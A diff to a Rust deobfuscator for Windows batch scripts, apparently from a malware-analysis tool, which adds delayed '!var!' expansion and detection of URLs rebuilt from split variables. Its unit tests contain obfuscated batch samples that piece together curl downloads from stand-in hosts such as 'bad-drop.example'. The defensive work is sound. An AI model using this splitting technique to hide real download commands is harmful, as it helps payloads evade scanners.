@@ -5,7 +5,7 @@ use std::collections::{BTreeMap, HashMap};
 use crate::budget::Budget;
 use crate::limits::MAX_LAYER;
 use crate::peel::{Rewrite, Technique};
-use crate::script::ENOUGH;
+use crate::script::{ENOUGH, joins_host, reveals};
 
 /// What every Windows has. Those that obfuscators cut letters from.
 const KNOWN: [(&str, &str); 8] = [
@@ -21,8 +21,15 @@ const KNOWN: [(&str, &str); 8] = [
 /// Characters of a variable's value.
 const MAX_VALUE: usize = 64 << 10;
 
+/// Whether variables between exclamation marks are put in from here on.
+fn delays(line: &str) -> bool {
+    let lower = line.to_ascii_lowercase();
+    lower.contains("enabledelayedexpansion") || lower.contains("/v:on")
+}
+
 #[derive(Default)]
 struct Run {
+    is_delayed: bool,
     /// Blocks in parentheses that are open.
     depth: i32,
     variables: HashMap<String, String>,
@@ -31,15 +38,22 @@ struct Run {
 }
 
 pub fn undo(text: &str, budget: &mut Budget) -> Rewrite {
+    let lower = text.to_ascii_lowercase();
     let mut run = Run::default();
     let mut done = String::with_capacity(text.len());
     for line in text.split_inclusive('\n') {
         if !budget.spend(line.len() / 4 + 1) || done.len() > MAX_LAYER {
             return Rewrite::default();
         }
-        let expanded = run.expand(line, budget);
+        let expanded = run.expand(line, '%', budget);
         let plain = run.without_carets(&expanded);
+        // `!name!` is put in when the line is run; what the line sets itself is not known then.
+        let sets = plain.to_ascii_lowercase().contains("set ");
+        let plain = if run.is_delayed && !sets { run.expand(&plain, '!', budget) } else { plain };
         run.assign(&plain);
+        run.is_delayed |= delays(line);
+        let is_new = run.weight < ENOUGH && plain != line && (reveals(&lower, &plain) || joins_host(text, &plain));
+        run.weight += if is_new { ENOUGH } else { 0 };
         done.push_str(&plain);
     }
     if run.weight < ENOUGH || done == text {
@@ -54,17 +68,17 @@ impl Run {
         self.weight += weight;
     }
 
-    /// With the variables that are known put in.
-    fn expand(&mut self, line: &str, budget: &mut Budget) -> String {
+    /// With the variables that are known put in, which stand between two of `mark`.
+    fn expand(&mut self, line: &str, mark: char, budget: &mut Budget) -> String {
         let mut done = String::with_capacity(line.len());
         let mut rest = line;
-        while let Some(at) = rest.find('%') {
+        while let Some(at) = rest.find(mark) {
             done.push_str(&rest[..at]);
             rest = &rest[at..];
             let inner = &rest[1..];
-            let Some(end) = inner.find('%').filter(|&end| end > 0 && end < 256) else {
+            let Some(end) = inner.find(mark).filter(|&end| end > 0 && end < 256) else {
                 // `%%` and arguments.
-                let length = 1 + usize::from(inner.starts_with('%'));
+                let length = 1 + usize::from(inner.starts_with(mark));
                 done.push_str(&rest[..length]);
                 rest = &rest[length..];
                 continue;
@@ -88,7 +102,7 @@ impl Run {
                     );
                 }
                 _ => {
-                    done.push('%');
+                    done.push(mark);
                     rest = inner;
                 }
             }
@@ -294,6 +308,23 @@ mod tests {
         }
         let behind = undone(&format!("{letters}if x==%1 (\r\necho\r\n)\r\nset a=2\r\necho [%a%]\r\n"));
         assert!(behind.ends_with("echo [2]\r\n"), "{behind}");
+    }
+
+    #[test]
+    fn delayed_variables_are_put_in_when_the_line_is_run() {
+        let text = "@echo off\r\nsetlocal EnableDelayedExpansion\r\nset a=ht\r\nset b=tp://bad.ex\r\nset c=ample/x\r\n";
+        assert!(undone(&format!("{text}curl !a!!b!!c!\r\n")).ends_with("curl http://bad.example/x\r\n"));
+        // Without it, they are texts; and what a line sets it may use.
+        assert_eq!(undone(&format!("{}curl !a!!b!!c!\r\n", text.replace("Enable", "Disable"))), "");
+        let done = undone(&format!("{text}curl !a!!b!!c!\r\nset a=x&curl !a!\r\n"));
+        assert!(done.ends_with("set a=x&curl !a!\r\n"), "{done}");
+    }
+
+    #[test]
+    fn an_address_in_pieces_is_enough() {
+        let done = undone("set a=http\r\nset b=://bad-drop.\r\nset c=example/x\r\ncurl %a%%b%%c%\r\n");
+        assert!(done.ends_with("curl http://bad-drop.example/x\r\n"), "{done}");
+        assert_eq!(undone("set a=http://one.example\r\ncurl %a%/x\r\n"), "");
     }
 
     #[test]
